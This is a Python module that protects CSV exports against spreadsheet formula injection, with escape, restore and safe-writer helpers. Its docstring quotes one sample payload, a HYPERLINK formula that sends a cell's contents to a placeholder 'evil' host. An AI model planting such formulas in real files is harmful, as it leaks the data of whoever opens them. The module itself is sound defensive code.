"""CSV cells that a spreadsheet will not run: the one helper every CSV export of Ronde writes through.

Why: names come from the estate file and the API (landlords, estates, checkpoints); a name such as
``=HYPERLINK("http://evil/?"&A1)`` written verbatim into a CSV is executed as a formula when a
landlord opens the report in a spreadsheet (CSV injection). The OWASP rule: a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, which spreadsheets
show as text. A cell that already starts with a single quote gets one more, so the rule can be
undone exactly (:func:`restore_cell`) and ``ronde audit verify`` reads back the names it signed.

Lives in ``ronde.protocol`` so every stage may use it.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def neutralise_cell(value: Any) -> Any:
    """``value`` as a CSV cell no spreadsheet evaluates; non-strings are returned unchanged."""
    if isinstance(value, str) and value and (value[0] in FORMULA_TRIGGERS or value[0] == ESCAPE):
        return ESCAPE + value
    return value


def restore_cell(text: str) -> str:
    """The value :func:`neutralise_cell` was given, from the cell it wrote."""
    return text[1:] if text.startswith(ESCAPE) else text


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through :func:`neutralise_cell`."""

    def __init__(self, out: IO[str], **kwargs: Any) -> None:
        self._w = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> None:
        self._w.writerow([neutralise_cell(x) for x in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(out: IO[str], **kwargs: Any) -> SafeCsvWriter:
    return SafeCsvWriter(out, **kwargs)
